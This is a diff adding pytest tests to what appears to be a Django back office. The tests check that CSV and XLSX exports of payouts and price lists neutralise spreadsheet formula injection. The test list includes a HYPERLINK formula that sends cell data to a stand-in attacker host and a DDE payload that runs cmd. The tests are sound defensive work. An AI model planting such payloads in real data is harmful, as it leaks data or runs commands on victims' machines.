@@ -158,3 +158,68 @@ def test_the_streamed_csv_is_identical_to_import_exports_own(make_trade_in):
     stock = PayoutResource().export(queryset).csv
     assert sorted(csv.reader(io.StringIO(streamed))) == sorted(csv.reader(io.StringIO(stock)))
     assert len(list(csv.reader(io.StringIO(streamed)))) == 3  # header and the two O' rows
+
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "@SUM(1+1)",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "  =1+1",
+    "\t=1+1",
+    "＝1+1",
+]
+
+
+def test_it_neutralises_formulas_in_the_csv_export(make_trade_in, manager):
+    """Both CSV writers: COPY on PostgreSQL, the Python writer elsewhere."""
+    stored = [make_trade_in(State.CLOSED, buyer_name=name).buyer_name for name in HOSTILE_NAMES]
+    make_trade_in(State.ACCEPTED, buyer_name="Plain Name")
+    rows = export_csv(staff_client(manager))
+    buyers = sorted(row["buyer"] for row in rows)
+    assert buyers == sorted(["'" + name for name in stored] + ["Plain Name"])
+    for row in rows:
+        assert Decimal(row["amount"]) > 0  # numbers are left alone
+
+
+def test_the_xlsx_export_has_no_formula_cells_and_real_numbers_and_dates(make_trade_in, manager):
+    from datetime import datetime
+
+    import openpyxl
+
+    for name in HOSTILE_NAMES:
+        make_trade_in(State.CLOSED, buyer_name=name)
+    response = staff_client(manager).post(
+        reverse("admin:workflows_payout_export"), {"format": "1", "resource": "0"}
+    )
+    assert response.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    header = [cell.value for cell in sheet[1]]
+    assert header == HEADER
+    rows = list(sheet.iter_rows(min_row=2))
+    assert len(rows) == len(HOSTILE_NAMES)
+    for row in rows:
+        assert [cell.coordinate for cell in row if cell.data_type == "f"] == []
+        cells = dict(zip(header, row, strict=True))
+        assert cells["buyer"].value.startswith("'")
+        assert cells["amount"].data_type == "n" and cells["amount"].value == 300
+        assert isinstance(cells["created"].value, datetime)
+        assert isinstance(cells["settled"].value, datetime)
+    assert sum(cells_row[3].value for cells_row in rows) == 300 * len(HOSTILE_NAMES)
+
+
+def test_the_price_list_exports_are_neutralised_too(product, manager):
+    from backoffice.resources import ConditionDeductionResource, ProductPriceResource
+
+    Product.objects.filter(pk=product.pk).update(sku="=1+2")
+    import openpyxl
+
+    client = staff_client(manager)
+    url = reverse("admin:workflows_product_export")
+    as_csv = client.post(url, {"format": "0", "resource": "0"}).content.decode("utf-8-sig")
+    assert list(csv.reader(io.StringIO(as_csv)))[1][0] == "'=1+2"
+    as_xlsx = client.post(url, {"format": "1", "resource": "0"}).content
+    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx)).active
+    assert (sheet["A2"].value, sheet["A2"].data_type) == ("'=1+2", "s")
+    assert ProductPriceResource().export().dict[0]["sku"] == "'=1+2"
+    assert ConditionDeductionResource().export().headers == ["question", "answer", "percent"]
